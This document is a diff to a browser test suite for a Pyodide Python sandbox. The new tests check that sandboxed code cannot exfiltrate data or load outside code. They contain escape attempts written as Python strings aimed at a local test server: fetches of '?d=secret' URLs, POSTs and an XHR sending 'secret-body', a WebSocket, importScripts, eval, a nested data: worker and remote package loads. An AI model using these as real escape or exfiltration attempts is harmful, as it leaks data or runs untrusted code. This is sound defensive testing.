@@ -22,6 +22,8 @@ let loopback: Server;
 /** Every request the loopback server received: the sandbox must cause none. */
 const requests: string[] = [];
 let target: string;
+/** Every request the page's own (vite) server received, path and query. */
+const served: string[] = [];
 
 beforeAll(async () => {
   loopback = createServer((req, res) => {
@@ -32,6 +34,13 @@ beforeAll(async () => {
   await new Promise<void>((resolve) => loopback.listen(0, '127.0.0.1', resolve));
   target = `127.0.0.1:${(loopback.address() as AddressInfo).port}`;
   vite = await startVite();
+  vite.server.middlewares.stack.unshift({
+    route: '',
+    handle: (req: { url?: string }, _res: unknown, next: () => void) => {
+      served.push(req.url ?? '');
+      next();
+    },
+  });
   browser = await launchBrowser();
   ({ page, logs } = await openPage(browser, `${vite.url}/tests/browser/pages/sandbox.html`));
   await page.waitForFunction(() => window.ready === true);
@@ -89,6 +98,7 @@ describe('the Python sandbox', () => {
   });
 
   it('a first call without warm() pays the cold start; a package URL that has no packages gives a clear error', async () => {
+    served.length = 0;
     const m = await page.evaluate(async () => {
       const frames = () => document.querySelectorAll('iframe');
       const before = frames().length;
@@ -98,21 +108,39 @@ describe('the Python sandbox', () => {
       const firstCallMs = performance.now() - t0;
       const csp = [...frames()].at(-1)?.srcdoc.match(/connect-src [^;]*/)?.[0];
       const numpy = await sandbox.run('import numpy');
+      // Not imported by the code: the page fetches nothing for it (the worker itself cannot).
+      const scipy = await sandbox.run('import pyodide_js\nawait pyodide_js.loadPackage("scipy")\nprint("tried")');
       sandbox.dispose();
       const afterDispose = await sandbox.run('print(1)');
-      return { first, firstCallMs, csp, numpy, afterDispose, framesLeft: frames().length - before };
+      return { first, firstCallMs, csp, numpy, scipy, afterDispose, framesLeft: frames().length - before };
     });
     console.log(`[sandbox numbers] first print(1) without warm() ${Math.round(m.firstCallMs)} ms`);
     expect(m.first).toMatchObject({ stdout: '1\n', error: null });
     expect(m.firstCallMs).toBeGreaterThan(300);
-    expect(m.csp).toBe(`connect-src ${vite.url}/pyodide/ ${vite.url}/no-packages-here/`);
+    expect(m.csp).toBe("connect-src 'none'"); // the page fetches the package files, for the run's own imports only
     expect(m.numpy.error).toMatch(/ModuleNotFoundError: No module named 'numpy'\nnumpy could not be loaded from the package URL http:\/\/127\.0\.0\.1:\d+\/no-packages-here\//);
     expect(m.numpy.stderr).toMatch(/numpy/);
+    expect(m.scipy.stdout).toMatch(/tried/);
+    const packageRequests = served.filter((u) => u.startsWith('/no-packages-here/'));
+    expect(packageRequests).toEqual([expect.stringMatching(/^\/no-packages-here\/numpy-[^/]+\.whl$/)]);
     expect(m.afterDispose.error).toMatch(/disposed/);
     expect(m.framesLeft).toBe(0);
   });
 
-  it('the frame is an opaque-origin sandbox under a CSP that allows only the Pyodide files', async () => {
+  it('Pyodide missing from its directory: a clear error, no frame left, and the other sandbox still works', async () => {
+    const r = await page.evaluate(async () => {
+      const before = document.querySelectorAll('iframe').length;
+      const broken = new window.PyodideSandbox({ assetBaseUrl: '/no-pyodide-here/' });
+      const result = await broken.run('print(1)');
+      broken.dispose();
+      return { result, framesLeft: document.querySelectorAll('iframe').length - before };
+    });
+    expect(r.result.error).toMatch(/^the Python interpreter could not load its files: .*\/no-pyodide-here\/pyodide\.asm\.wasm/);
+    expect(r.framesLeft).toBe(0);
+    await expectHealthy();
+  });
+
+  it('the frame is an opaque-origin sandbox under a CSP that connects nowhere and runs only the two Pyodide modules', async () => {
     const frame = await page.evaluate(() => {
       const iframe = document.querySelector('iframe')!;
       let reachable = true;
@@ -126,7 +154,8 @@ describe('the Python sandbox', () => {
     expect(frame.sandbox).toBe('allow-scripts');
     expect(frame.reachable).toBe(false);
     const csp = /content="([^"]*)"/.exec(frame.srcdoc)![1]!;
-    expect(csp).toMatch(new RegExp(`^default-src 'none'; script-src 'nonce-[0-9a-f]{32}' ${vite.url}/pyodide/ 'wasm-unsafe-eval'; worker-src data:; connect-src ${vite.url}/pyodide/;`));
+    const modules = `${vite.url}/pyodide/pyodide.mjs ${vite.url}/pyodide/pyodide.asm.mjs`;
+    expect(csp).toMatch(new RegExp(`^default-src 'none'; script-src 'nonce-[0-9a-f]{32}' ${modules} 'wasm-unsafe-eval'; worker-src data:; connect-src 'none';`));
     const wasm = await fetch(`${vite.url}/pyodide/pyodide.asm.wasm`, { headers: { Origin: 'null' } });
     expect([wasm.headers.get('content-type'), wasm.headers.get('access-control-allow-origin')]).toEqual(['application/wasm', '*']);
     await wasm.body?.cancel();
@@ -191,14 +220,14 @@ describe('the Python sandbox', () => {
     );
   });
 
-  it('cannot open a WebSocket or an EventSource', async () => {
+  it('cannot open a WebSocket; EventSource (which reconnects by itself) is gone', async () => {
     const wait = (ctor: string, url: string) =>
       `import js, asyncio\nfrom pyodide.ffi import create_proxy\nc = js.${ctor}.new("${url}")\nf = asyncio.get_running_loop().create_future()\n` +
       `c.addEventListener("error", create_proxy(lambda e: f.done() or f.set_result("error event")))\n` +
       `c.addEventListener("open", create_proxy(lambda e: f.done() or f.set_result("open")))\nprint(await asyncio.wait_for(f, 2))`;
-    expect(await run(wait('WebSocket', `ws://${target}/ws`))).toMatchObject({ stdout: 'error event\n', error: null });
-    expect(await run(wait('EventSource', `http://${target}/sse`))).toMatchObject({ stdout: 'error event\n', error: null });
-    await expectHealthy();
+    // wait_for's timer is cleared when the socket fails first: nothing is left running, state is kept.
+    expect(await run(wait('WebSocket', `ws://${target}/ws`))).toMatchObject({ stdout: 'error event\n', error: null, stateLost: false });
+    await expectContained(await run(wait('EventSource', `http://${target}/sse`)), /AttributeError: EventSource/);
   });
 
   it('cannot send an image beacon or navigator.sendBeacon', async () => {
@@ -209,12 +238,9 @@ describe('the Python sandbox', () => {
   it('cannot load code from elsewhere (importScripts, eval, workers, packages)', async () => {
     await expectContained(await run(`import js\njs.importScripts("http://${target}/a.js")`), /importScripts/);
     await expectContained(await run(`from pyodide.code import run_js\nrun_js("fetch('http://${target}/eval')")`), /EvalError.*Content Security Policy/s);
-    await expectContained(await run(`import js\njs.Worker.new("http://${target}/w.js")`), /SecurityError/);
-    // A nested data: worker inherits the policy: its fetch and import are refused too.
-    const nested = `import js, asyncio\nfrom pyodide.ffi import to_js\n` +
-      `js.Worker.new('data:text/javascript,fetch("http://${target}/nested");import("http://${target}/nested.js")', to_js({"type": "module"}, dict_converter=js.Object.fromEntries))\n` +
-      `await asyncio.sleep(0.5)\nprint("spawned")`;
-    expect(await run(nested)).toMatchObject({ stdout: 'spawned\n', error: null });
+    // No nested worker at all (it could outlive the run, and would need its own lockdown).
+    await expectContained(await run(`import js\njs.Worker.new("http://${target}/w.js")`), /AttributeError: Worker/);
+    await expectContained(await run(`import js\njs.Worker.new('data:text/javascript,fetch("http://${target}/nested")', js.Object.fromEntries([["type", "module"]]))`), /AttributeError: Worker/);
     expect((await run(`import pyodide_js\nawait pyodide_js.loadPackage("http://${target}/x-1.0-py3-none-any.whl")`)).stdout).toMatch(/Failed to load/);
     await expectHealthy();
   });
@@ -268,6 +294,63 @@ describe('the Python sandbox', () => {
     expect(await run('len(caught) > 0')).toMatchObject({ result: 'True' }); // the patches were live
     await expectHealthy();
   });
+
+  it('has no nested or shared workers, GPU, OffscreenCanvas or WebGL, nor other ways to run code later', async () => {
+    const names = ['Worker', 'SharedWorker', 'OffscreenCanvas', 'WebGLRenderingContext', 'WebGL2RenderingContext', 'BroadcastChannel', 'EventSource', 'FinalizationRegistry', 'requestAnimationFrame', 'scheduler'];
+    const r = await run(`import js\npresent = [n for n in ${JSON.stringify(names)} if hasattr(js, n)]\nprint(present, hasattr(js.navigator, "gpu"), hasattr(js.Atomics, "waitAsync"))`);
+    expect(r).toMatchObject({ stdout: '[] False False\n', error: null });
+    await expectContained(await run('import js\nawait js.navigator.gpu.requestAdapter()'), /AttributeError: gpu/);
+    await expectContained(await run('import js\njs.OffscreenCanvas.new(8, 8).getContext("webgl2")'), /AttributeError: OffscreenCanvas/);
+    // Put back by assignment? The timer functions cannot be swapped for untracked ones.
+    await expectContained(await run('import js\njs.Object.defineProperty(js, "setTimeout", js.Object.fromEntries([["value", 1]]))'), /TypeError: Cannot redefine property: setTimeout/);
+  });
+
+  it("no channel to any origin: the page's own /pyodide/ with a query string or a body never reaches its server", async () => {
+    served.length = 0;
+    const base = `${vite.url}/pyodide`;
+    const code = `import js\nfrom pyodide.http import pyfetch\nimport pyodide_js\nout = []\n` +
+      `for url in ["${base}/leak?d=secret", "${base}/pyodide-lock.json?d=secret", "${base}/pyodide.mjs?d=secret"]:\n` +
+      `    try:\n        await js.fetch(url)\n        out.append("fetched")\n    except Exception as e:\n        out.append(type(e).__name__)\n` +
+      `try:\n    await pyfetch("${base}/leak-post", method="POST", body="secret-body")\n    out.append("posted")\nexcept Exception as e:\n    out.append(type(e).__name__)\n` +
+      `x = js.XMLHttpRequest.new()\nx.open("POST", "${base}/leak-xhr", False)\n` +
+      `try:\n    x.send("secret-body")\n    out.append("xhr sent")\nexcept Exception as e:\n    out.append(type(e).__name__)\n` +
+      `await pyodide_js.loadPackage("${base}/leak-1.0-py3-none-any.whl")\nprint(out)`;
+    const r = await run(code);
+    expect(r.error).toBeNull();
+    const outcomes = /\[('\w+'(?:, )?){5}\]/.exec(r.stdout)?.[0];
+    expect(outcomes).toBeDefined();
+    expect(outcomes).not.toMatch(/fetched|posted|xhr sent/);
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    expect(served.filter((u) => /leak|secret/.test(u))).toEqual([]);
+    await expectHealthy();
+  });
+
+  it('a run that finishes early leaves nothing behind: its state is kept', async () => {
+    expect(await run('import asyncio\nawait asyncio.sleep(0.05)\nf = asyncio.get_running_loop().create_future()\nasyncio.get_running_loop().call_soon(f.set_result, 1)\nkept = await asyncio.wait_for(f, 5)')).toMatchObject({ error: null, stateLost: false });
+    expect(await run('import js\nfrom pyodide.ffi import create_once_callable\njs.clearTimeout(js.setTimeout(create_once_callable(lambda: None), 60_000))\nkept')).toMatchObject({ result: '1', stateLost: false });
+    expect((await run('kept')).notice).toBeUndefined();
+  });
+
+  // Each leaves work behind in its own way; each must end with the interpreter restarted, the
+  // result saying so, no output from the leftover work in any later run, and the next run working.
+  const leftovers: Record<string, string> = {
+    'a JS timer': 'import js\nfrom pyodide.ffi import create_proxy\njs.setTimeout(create_proxy(lambda: print("late")), 300)',
+    'a JS interval': 'import js\nfrom pyodide.ffi import create_proxy\njs.setInterval(create_proxy(lambda: print("late")), 50)',
+    'an asyncio task': 'import asyncio\nasync def forever():\n    while True:\n        await asyncio.sleep(0.05)\n        print("late")\nasyncio.ensure_future(forever())',
+    'a call_soon loop': 'import asyncio\nloop = asyncio.get_running_loop()\ndef again():\n    loop.call_soon(again)\nagain()',
+    'a MessageChannel ping-pong': 'import js\nfrom pyodide.ffi import create_proxy\nch = js.MessageChannel.new()\nch.port1.onmessage = create_proxy(lambda e: ch.port2.postMessage(0))\nch.port2.postMessage(0)',
+  };
+  for (const [name, code] of Object.entries(leftovers)) {
+    it(`work left behind (${name}) is ended with the interpreter, and the result says the state was reset`, async () => {
+      await run('planted = 1337');
+      const r = await run(`${code}\nprint("returned")`);
+      expect(r).toMatchObject({ stdout: 'returned\n', error: null, stateLost: true, notice: expect.stringMatching(/left work running .* state was reset/) });
+      expect((await run('planted')).error).toMatch(/NameError: name 'planted' is not defined/);
+      await new Promise((resolve) => setTimeout(resolve, 400));
+      expect(await run('print(6 * 7)')).toMatchObject({ stdout: '42\n', error: null, stateLost: false });
+      await expectHealthy();
+    });
+  }
 
   it('while True: pass is killed at the timeout, the page keeps ticking, and the next run works', async () => {
     await page.evaluate(() => window.sandbox.warm());
